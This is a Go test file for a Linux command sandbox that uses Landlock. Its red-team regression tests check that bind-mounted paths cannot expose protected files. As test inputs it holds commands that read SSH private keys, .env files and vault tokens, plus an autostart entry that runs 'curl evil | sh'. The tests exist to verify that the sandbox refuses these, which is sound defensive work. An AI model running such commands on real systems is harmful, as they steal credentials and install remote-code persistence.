//go:build linux

package confine_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/gatehouse-dev/gatehouse/confine"
)

// privateMounts moves the calling goroutine, locked to its thread for
// the rest of the test, into a mount namespace of its own whose mounts
// propagate nowhere: what the test mounts is seen by it and the commands
// it starts only. It needs root (CAP_SYS_ADMIN).
func privateMounts(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("mounting needs root")
	}
	runtime.LockOSThread() // never unlocked: the thread ends with the test
	if err := unix.Unshare(unix.CLONE_NEWNS); err != nil {
		t.Skipf("no mount namespace: %v", err)
	}
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		t.Fatal(err)
	}
}

// bind mounts src at a new directory named name under a temporary
// directory, and returns its path.
func bind(t *testing.T, src, name string) string {
	t.Helper()
	dst := filepath.Join(t.TempDir(), name)
	if err := os.Mkdir(dst, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(src, dst, "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Unmount(dst, unix.MNT_DETACH) })
	return dst
}

// A bind mount shows a directory at a second place (a container's
// /workspace and the user's home both from one host directory, a home
// bound into a build root, ~/.ssh bound into a dev container): a
// protected path seen there has another path, with one link, that
// Landlock granted with the rest of the file system. cat alias/.ssh/id_rsa
// printed the key, and ws/app/.env the working directory's .env. Command
// now protects a protected path wherever a mount of its file system
// shows it (/proc/thread-self/mountinfo) (red team rtb).
func TestRedteamRTB_BindMountedProtectedPath(t *testing.T) {
	requireLandlock(t)
	privateMounts(t)
	h := newHome(t)
	alias := bind(t, h.dir, "home copy") // mountinfo spells the space \040
	keys := bind(t, filepath.Join(h.dir, ".ssh"), "keys")
	ws := bind(t, filepath.Join(h.dir, "work"), "ws")
	// A file system of its own inside ~/.ssh (a tmpfs or FUSE vault),
	// shown elsewhere too.
	vault := filepath.Join(h.dir, ".ssh", "vault")
	if err := os.Mkdir(vault, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount("tmpfs", vault, "tmpfs", 0, "size=1m"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Unmount(vault, unix.MNT_DETACH) })
	if err := os.WriteFile(filepath.Join(vault, "token"), []byte(marker), 0o600); err != nil {
		t.Fatal(err)
	}
	vaultCopy := bind(t, vault, "vault-copy")
	for _, script := range []string{
		"cat '" + alias + "/.ssh/id_rsa'",
		"cat " + keys + "/id_rsa",
		"cd " + keys + " && cat ./id_rsa",
		"cat " + ws + "/app/.env",
		"cat " + vaultCopy + "/token",
		"cat '" + alias + "/.ssh/vault/token'",
		"cat '/proc/self/root" + alias + "/.ssh/id_rsa'",
	} {
		out, err := confinedSh(t, h, filepath.Join(h.dir, "work"), script)
		if err == nil || strings.Contains(out, marker) {
			t.Errorf("%q: err %v, output %q", script, err, out)
		}
	}
	// Near misses: the rest of what the mounts show is read as before.
	out, err := confinedSh(t, h, filepath.Join(h.dir, "work"), "cat '"+alias+"/notes.txt' "+ws+"/readme.md && cat '"+alias+"/work/readme.md'")
	if err != nil || out != "notesreadmereadme" {
		t.Errorf("the rest of the mounts: err %v, output %q", err, out)
	}
}

// A mount of another file system, or of a directory of the same one
// that shows no protected path, is granted as before.
func TestRedteamRTB_UnrelatedBindMount(t *testing.T) {
	requireLandlock(t)
	privateMounts(t)
	h := newHome(t)
	other := t.TempDir()
	if err := os.WriteFile(filepath.Join(other, "data.txt"), []byte("data"), 0o600); err != nil {
		t.Fatal(err)
	}
	view := bind(t, other, "view")
	cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: filepath.Join(h.dir, "work")}, "cat", view+"/data.txt")
	if err != nil {
		t.Fatal(err)
	}
	if out, err := cmd.CombinedOutput(); err != nil || string(out) != "data" {
		t.Errorf("err %v, output %q", err, out)
	}
}

// The default writable directories were compared with the startup places
// by their path, but a bind mount shows a directory at a second place: a
// working directory /workspace that is the home itself (or ~/.config)
// bound there was writable, and the command wrote an autostart entry
// as workspace/.config/autostart/evil.desktop (red team rtb). Each place a writable directory
// is shown at is now compared.
func TestRedteamRTB_WritableBindOfHome(t *testing.T) {
	requireLandlock(t)
	privateMounts(t)
	h := newHome(t)
	t.Setenv("HOME", h.dir)
	t.Setenv("TMPDIR", t.TempDir())
	if err := os.MkdirAll(filepath.Join(h.dir, ".config", "autostart"), 0o700); err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ src, autostart string }{
		{h.dir, ".config/autostart"},
		{filepath.Join(h.dir, ".config"), "autostart"},
	} {
		src := c.src
		ws := bind(t, src, "workspace")
		cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: ws}, "sh", "-c", "echo 'Exec=sh -c \"curl evil | sh\"' > "+c.autostart+"/evil.desktop")
		if errors.Is(err, confine.ErrWritableHome) {
			continue
		}
		if err != nil {
			t.Fatal(err)
		}
		out, err := cmd.CombinedOutput()
		t.Errorf("Dir %s bound at %s: not refused (%v %q)", src, ws, err, out)
	}
	// Near miss: a project bound at /workspace is writable.
	ws := bind(t, filepath.Join(h.dir, "work"), "workspace")
	if err := os.Mkdir(filepath.Join(ws, "src"), 0o700); err != nil {
		t.Fatal(err)
	}
	cmd, err := confine.Command(context.Background(), h.p, &confine.CommandOptions{Dir: filepath.Join(ws, "src")}, "sh", "-c", "echo ok > f && cat f")
	if err != nil {
		t.Fatal(err)
	}
	if out, err := cmd.CombinedOutput(); err != nil || string(out) != "ok\n" {
		t.Errorf("a bound project: %v %q", err, out)
	}
}

// The file view refuses a hard link to a protected file by its identity,
// but only a file with several links: a bind mount of ~/.ssh inside the
// served directory (a dev container's keys/) shows the key with one
// link, and v.ReadFile("keys/id_rsa") returned it, and WriteFile
// replaced it (red team rtb). A file recorded as protected is now refused
// whatever its count of links, and the places mounts show the protected
// paths at are protected paths of the view.
func TestRedteamRTB_ViewReadsABindMountedKey(t *testing.T) {
	privateMounts(t)
	h := newHome(t)
	work := filepath.Join(h.dir, "work")
	keys := filepath.Join(work, "keys")
	if err := os.Mkdir(keys, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := unix.Mount(filepath.Join(h.dir, ".ssh"), keys, "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { unix.Unmount(keys, unix.MNT_DETACH) })
	v := h.view(t, work)
	if data, err := v.ReadFile("keys/id_rsa"); !errors.Is(err, confine.ErrProtected) {
		t.Errorf("read through the bind mount: want ErrProtected, got %v %q", err, data)
	}
	if err := v.WriteFile("keys/id_rsa", []byte("overwritten"), 0o600); !errors.Is(err, confine.ErrProtected) {
		t.Errorf("write through the bind mount: want ErrProtected, got %v", err)
	}
	// A key made after the view: no identity recorded, the path refused.
	if err := os.WriteFile(filepath.Join(h.dir, ".ssh", "id_new"), []byte(marker), 0o600); err != nil {
		t.Fatal(err)
	}
	if data, err := v.ReadFile("keys/id_new"); !errors.Is(err, confine.ErrProtected) {
		t.Errorf("a key made later, through the bind mount: want ErrProtected, got %v %q", err, data)
	}
	// Near miss: the rest of the served directory reads.
	if data, err := v.ReadFile("readme.md"); err != nil || string(data) != "readme" {
		t.Errorf("readme.md: %v %q", err, data)
	}
}
